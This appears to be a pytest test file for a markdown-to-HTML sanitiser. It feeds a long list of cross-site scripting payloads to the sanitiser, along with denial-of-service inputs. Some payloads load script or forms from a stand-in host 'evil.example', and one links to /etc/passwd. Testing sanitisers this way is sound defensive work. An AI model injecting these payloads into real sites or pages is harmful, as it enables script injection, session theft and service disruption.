"""What people type comes out as what they meant: no script, no picture, nothing that takes long."""

import re
import time
from html.parser import HTMLParser

import pytest

from claims.markup import html_of, names_in

pytestmark = pytest.mark.once

LINK = 'rel="noopener nofollow ugc"'
TAGS = {"a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "span", "strong", "ul"}
ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start"), ("span", "class")}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>over all</p>",
    "<form action=//evil.example><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>",
    "<div id=status class=banner>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.example/1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/" onmouseover=alert(1))',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    '![x](https://a.example "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "`<script>alert(1)</script>`",
    "```<script>\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '```"><script>alert(1)</script>\nx\n```',
    "@<script>alert(1)</script>",
    "@alice<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "*<script>*alert(1)*</script>*",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>\n- alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "<\x00script>alert(1)</script>",
]

HOSTILE = {
    "brackets": "[" * 5_000,
    "closed brackets": "[]" * 5_000,
    "pictures": "![" * 5_000,
    "links in links": "[a](" * 2_500,
    "one open, many closed": "[a" * 2_500 + "]" * 2_500,
    "references": "[a][" * 2_500,
    "stars": "*" * 5_000,
    "stars round a letter": "*" * 5_000 + "a" + "*" * 5_000,
    "stars and underlines": "_*" * 5_000,
    "bold that never ends": "**a" * 3_333,
    "crossing emphasis": "*x_" * 3_333,
    "quotes 10,000 deep": ">" * 10_000,
    "quotes apart": "> " * 5_000,
    "lists 5,000 deep": "- " * 5_000,
    "numbers": "1. " * 3_333,
    "a list in a list": "\n".join("  " * n + "- a" for n in range(100)),
    "quotes and lists": "".join("> - " * (n % 20) + "a\n" for n in range(200)),
    "backticks": " ".join("`" * n for n in range(1, 140)),
    "backticks open": "`a" * 5_000,
    "less than": "<" * 10_000,
    "addresses that never end": "<http://" * 1_250,
    "tags that never end": "<a " * 3_333,
    "comments": "<!--" * 2_500,
    "ampersands": "&" * 10_000,
    "backslashes": "\\" * 10_000,
    "names": "@a " * 3_333,
    "at signs": "@" * 10_000,
    "almost a name": "@" + "." * 9_999,
    "headings": "# " * 5_000,
    "references defined": "[x]: y\n" * 1_400,
    "lines": "\n" * 10_000,
    "one word": "a" * 10_000,
}


class Seen(HTMLParser):
    """Tags and attributes as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.depth = self.deepest = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))
        if tag not in ("br", "hr"):
            self.depth += 1
            self.deepest = max(self.deepest, self.depth)

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1


@pytest.mark.parametrize("typed", PAYLOADS)
def test_nothing_gets_through_that_a_browser_would_run_or_fetch(typed: str) -> None:
    seen = Seen(html_of(typed, ["alice"]))
    assert {tag for tag, _ in seen.found} <= TAGS
    given = {(tag, name): value for tag, attributes in seen.found for name, value in attributes}
    assert given.keys() <= ATTRIBUTES
    address = re.sub("[\t\r\n]|^[\x00- ]+", "", given.get(("a", "href")) or "")
    assert re.match("(?i)https?://|(?![a-z][a-z0-9+.-]*:)", address)
    assert given.get(("span", "class"), "mention") == "mention"


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("part", [1, 5, 10])
def test_no_text_takes_long_or_goes_deep(name: str, part: int) -> None:
    """The worst of these takes some 30 ms where ordinary text of that length takes 20."""
    text = HOSTILE[name][: len(HOSTILE[name]) // part]
    began = time.perf_counter()
    html = html_of(text, ["a"])
    assert time.perf_counter() - began < 2
    seen = Seen(html)
    assert seen.deepest <= 60
    assert seen.depth == 0
    assert len(html) < 15 * len(text) + 300


def test_signs_without_end_are_shown_as_typed_and_call_nobody() -> None:
    text = "*" * 1_000 + "\n<@alice>"
    assert html_of(text, ["alice"]) == f"<p>{'*' * 1_000}<br>\n&lt;@alice&gt;</p>\n"
    assert names_in(text) == []
    assert "<strong>so</strong>" in html_of("**so** " * 250)


def test_what_people_write_every_day() -> None:
    assert html_of("One *two* **three** `four`\nnext line") == (
        "<p>One <em>two</em> <strong>three</strong> <code>four</code><br>\nnext line</p>\n"
    )
    assert html_of("- a\n- b") == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"
    assert html_of("> said") == "<blockquote>\n<p>said</p>\n</blockquote>\n"


def test_links_lead_out_without_a_recommendation() -> None:
    assert html_of("[a](https://a.example)") == f'<p><a href="https://a.example" {LINK}>a</a></p>\n'
    assert (
        html_of("<https://a.example>") == f'<p><a href="https://a.example" {LINK}>https://a.example</a></p>\n'
    )
    assert html_of("[a](/claims/1/)") == f'<p><a href="/claims/1/" {LINK}>a</a></p>\n'
    assert "href" not in html_of("[a](mailto:a@a.example)")


def test_a_picture_is_a_link_and_a_heading_a_line_in_bold() -> None:
    picture = html_of("![seen](https://a.example/a.png)")
    assert picture == f'<p>!<a href="https://a.example/a.png" {LINK}>seen</a></p>\n'
    assert html_of("# Loud\n\nand\n===") == "<p><strong>Loud</strong></p>\n<p><strong>and</strong></p>\n"


def test_names_that_are_known_are_set_off_and_others_stay_as_typed() -> None:
    said = html_of("@Alice, @bob. `@alice` bob@alice.example \\@alice", ["alice"])
    assert said == (
        '<p><span class="mention">@Alice</span>, @bob. <code>@alice</code> bob@alice.example @alice</p>\n'
    )
    assert html_of("__@alice__", ["alice"]) == '<p><strong><span class="mention">@alice</span></strong></p>\n'


def test_a_text_calls_whom_it_names_once_each_in_turn() -> None:
    assert names_in("@bob and @alice. (@bob) `@carl` x@dora @e.f-g+h@i_j") == ["bob", "alice", "e.f-g+h@i_j"]
    assert names_in("nobody") == []
    assert names_in("@ @. @@ @\n") == []
